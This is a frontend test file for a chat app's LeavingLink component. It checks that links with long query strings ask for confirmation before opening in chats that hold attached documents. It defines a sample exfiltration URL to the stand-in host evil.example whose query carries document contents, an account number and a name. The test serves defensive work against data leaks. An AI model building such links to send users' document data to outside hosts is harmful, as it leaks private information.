// @vitest-environment jsdom
import { act } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { setUp, until } from '../../../../store/scriptedStore';
import { control, preparePage, press, settle } from '../../../../testing/pageKit';
import { StoreContext } from '../../../useApp';
import { LeavingLink } from './LeavingLink';
import { loadDialogTexts } from '../../../i18n';

let root: Root;
beforeAll(loadDialogTexts);
beforeEach(() => {
  preparePage();
  document.body.innerHTML = '<div id="root"></div>';
  root = createRoot(document.getElementById('root')!);
});
afterEach(() => act(async () => root.unmount()));

const LONG = `https://evil.example/?q=${encodeURIComponent('the account number in the document is 4711, of Ms Zebra')}`;

/** Clicks a link in a chat with or without a document. @returns whether the browser would follow it */
async function click(href: string, withDocument: boolean, type = 'click', button = 0): Promise<boolean> {
  const { store } = setUp();
  await store.getState().desk.startModel();
  store.getState().send('what does it say');
  await until(() => store.getState().turn === null);
  const { chats, currentId } = store.getState();
  if (withDocument) {
    const [question, ...rest] = chats[currentId].messages;
    const file = {
      type: 'file',
      id: 'f',
      name: 'a.txt',
      mediaType: 'text/plain',
      blob: new Blob(['x']),
    } as const;
    const messages = [{ ...question, parts: [file, ...question.parts] } as typeof question, ...rest];
    store.setState({ chats: { ...chats, [currentId]: { ...chats[currentId], messages } } });
  }
  await act(async () => root.render(<StoreContext value={store}><LeavingLink href={href}>a</LeavingLink></StoreContext>)); // prettier-ignore
  const event = new MouseEvent(type, { bubbles: true, cancelable: true, button });
  await act(async () => void document.querySelector('a')?.dispatchEvent(event));
  await settle();
  return !event.defaultPrevented;
}

test('a long query in a chat with documents asks first, also for the middle button', async () => {
  expect(await click(LONG, true)).toBe(false);
  const dialog = document.querySelector('dialog');
  expect(dialog?.textContent).toContain('account number in the document is 4711');
  expect(control('Stay here')).not.toBeNull();
  expect([...document.querySelectorAll('a')].at(-1)?.href).toBe(LONG);
  await press('Stay here');
  expect(document.querySelector('dialog')).toBeNull();
  expect(await click(LONG, true, 'auxclick', 1)).toBe(false);
});

test('ordinary links, and chats without documents, open at once', async () => {
  expect(await click('https://en.wikipedia.org/wiki/Zebra', true)).toBe(true);
  expect(await click(LONG, false)).toBe(true);
  expect(await click(LONG, true, 'auxclick', 2)).toBe(true); // the context menu
});
